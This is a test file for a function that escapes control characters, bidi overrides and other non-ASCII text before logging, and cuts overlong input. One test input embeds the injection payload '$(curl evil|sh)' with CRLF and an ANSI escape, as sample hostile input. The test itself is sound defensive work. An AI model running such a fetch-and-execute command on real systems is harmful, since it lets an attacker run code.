import { describe, expect, it } from 'vitest';
import { printable } from '../src/printable.js';

describe('printable', () => {
  it('escapes control characters, so outside text cannot start a log line or a terminal sequence', () => {
    expect(printable('GET /x\r\n$(curl evil|sh)\u001b[2J', 100)).toBe('GET /x\\u000d\\u000a$(curl evil|sh)\\u001b[2J');
  });

  it('escapes everything beyond ASCII (C1 controls, bidi overrides, any other character)', () => {
    expect(printable('a\u0085b\u202ec\u00ff', 100)).toBe('a\\u0085b\\u202ec\\u00ff');
  });

  it('cuts long text and says how much was left out', () => {
    expect(printable('x'.repeat(1000), 10)).toBe('xxxxxxxxxx... (990 more characters)');
  });

  it('is plain printable ASCII, so escaping twice changes nothing', () => {
    const once = printable('\u0000\u00e9\u2028 ok', 100);
    expect(once).toMatch(/^[\x20-\x7e]*$/);
    expect(printable(once, 100)).toBe(once);
  });
});
